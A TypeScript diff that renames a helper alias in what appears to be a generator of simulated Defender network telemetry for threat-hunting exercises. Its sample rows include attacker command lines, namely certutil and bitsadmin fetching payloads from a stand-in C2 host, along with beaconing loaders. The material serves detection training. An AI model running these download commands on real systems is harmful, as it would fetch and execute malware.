@@ -1,7 +1,7 @@
 import { fileHashes } from '../files.js';
 import type { Machine } from '../model.js';
 import { SYSTEM_ACCOUNT } from './actors.js';
-import { type Profile, initiatingVariant as process, type Variant } from './background-generic.js';
+import { initiatingVariant as by, type Profile, type Variant } from './background-generic.js';
 import type { BackgroundContext } from './context.js';
 import type { RowSource } from './table.js';
 
@@ -28,7 +28,7 @@ function listening(port: number, folder: string, file: string, commandLine: stri
     RemoteIPType: 'Reserved',
     LocalIPType: 'Reserved',
     Protocol: 'Tcp',
-    ...process(folder, file, commandLine, 'services.exe'),
+    ...by(folder, file, commandLine, 'services.exe'),
   };
 }
 
@@ -63,7 +63,7 @@ function httpSignature(path: string, host: string, proc: Variant): Variant {
   };
 }
 
-const certutil = process(
+const certutil = by(
   SYS,
   'certutil.exe',
   `certutil.exe -urlcache -split -f http://${C2}/payload.exe C:\\Users\\Public\\p.exe`,
@@ -94,14 +94,14 @@ export const HN_NETWORK: Profile = [
   ),
   listening(3389, SYS, 'svchost.exe', 'svchost.exe -k NetworkService -s TermService'),
   // SMB leaving the network: the System process, as MDE attributes kernel SMB traffic.
-  outbound('203.0.113.66', 445, '', process(SYS, 'ntoskrnl.exe', '', '')),
+  outbound('203.0.113.66', 445, '', by(SYS, 'ntoskrnl.exe', '', '')),
   // A LOLBin fetching from the address in its own command line.
   outbound(C2, 80, '', certutil),
   outbound(
     C2,
     443,
     '',
-    process(
+    by(
       SYS,
       'bitsadmin.exe',
       `bitsadmin.exe /transfer job /download /priority high http://${C2}/b.exe C:\\Temp\\b.exe`,
@@ -113,45 +113,35 @@ export const HN_NETWORK: Profile = [
     C2,
     443,
     'malicious-updates.com',
-    process(
-      'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319',
-      'MSBuild.exe',
-      'MSBuild.exe',
-      'powershell.exe',
-    ),
+    by('C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319', 'MSBuild.exe', 'MSBuild.exe', 'powershell.exe'),
   ),
   // Snip3-style loaders: RegAsm hollowed from PowerShell, beaconing.
   outbound(
     C2,
     443,
     'malicious-updates.com',
-    process(
-      'C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319',
-      'RegAsm.exe',
-      '"RegAsm.exe"',
-      'powershell.exe',
-    ),
+    by('C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319', 'RegAsm.exe', '"RegAsm.exe"', 'powershell.exe'),
   ),
   // A screensaver from a phishing archive, beaconing.
   outbound(
     C2,
     443,
     'malicious-updates.com',
-    process('C:\\Users\\Public\\Downloads', 'invoice.scr', '"C:\\Users\\Public\\Downloads\\invoice.scr" /S'),
+    by('C:\\Users\\Public\\Downloads', 'invoice.scr', '"C:\\Users\\Public\\Downloads\\invoice.scr" /S'),
   ),
   // Bazacall's DLL, run by rundll32 with its export.
   outbound(
     C2,
     443,
     'malicious-updates.com',
-    process(SYS, 'rundll32.exe', 'rundll32.exe C:\\Users\\Public\\tmp.dll,GlobalOut', 'excel.exe'),
+    by(SYS, 'rundll32.exe', 'rundll32.exe C:\\Users\\Public\\tmp.dll,GlobalOut', 'excel.exe'),
   ),
   // Peer-to-peer use against policy.
   outbound(
     '203.0.113.81',
     6969,
     'torrent.ubuntu.com',
-    process(
+    by(
       'C:\\Program Files\\qBittorrent',
       'qbittorrent.exe',
       '"C:\\Program Files\\qBittorrent\\qbittorrent.exe"',
@@ -161,7 +151,7 @@ export const HN_NETWORK: Profile = [
   httpSignature(
     '/invoice.iso',
     C2,
-    process(
+    by(
       'C:\\Program Files (x86)\\Microsoft\\Edge\\Application',
       'msedge.exe',
       '"msedge.exe" --single-argument http://198.51.100.23/invoice.iso',
